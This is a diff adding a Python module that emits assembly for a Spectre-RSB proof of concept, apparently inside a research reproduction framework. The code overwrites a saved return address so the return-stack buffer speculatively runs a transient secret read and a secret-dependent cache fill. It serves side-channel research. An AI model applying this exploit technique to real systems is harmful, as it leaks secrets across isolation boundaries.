@@ -1,0 +1,46 @@
+"""Spectre-RSB: return-stack-buffer speculation (Koruyeh et al., WOOT'18).
+
+A helper function overwrites its own saved return address on the stack
+before ``ret``.  Architecturally control transfers to the overwritten
+target (skipping the leak code); the hardware RSB, however, still
+predicts a return to the original call site — so the leak sequence after
+the ``call`` executes *only* on the wrong path, reading the secret and
+touching its probe line.
+"""
+
+from repro.attack.covert import emit_main_skeleton
+from repro.kernel.loader import build_binary
+
+VARIANT_NAME = "spectre_rsb"
+
+
+def source(config):
+    prefix = "srs"
+    train_block = ""  # the RSB needs no training; every ret mispredicts
+    strike_block = f"""
+    ; ---- strike: call redirects architecturally, RSB speculates here ----
+    call {prefix}_redirect
+    ; speculative-only leak (the RSB-predicted wrong path):
+    li   t1, {config.secret_address}
+    add  t1, t1, s0
+    lb   t2, 0(t1)                     ; transient secret read
+    muli t2, t2, {config.stride}
+    la   t3, {prefix}_probe
+    add  t3, t3, t2
+    lw   t3, 0(t3)                     ; secret-dependent cache fill
+{prefix}_resume:
+"""
+    extra_text = f"""
+; ---- redirect: smash own return address, forcing an RSB mismatch ----
+{prefix}_redirect:
+    la   t0, {prefix}_resume
+    sw   t0, 0(sp)                     ; overwrite saved return address
+    ret                                ; arch -> resume, RSB -> leak code
+"""
+    return emit_main_skeleton(config, prefix, train_block, strike_block,
+                              extra_text)
+
+
+def build(config):
+    tag = "cr" if config.perturb is not None else "plain"
+    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
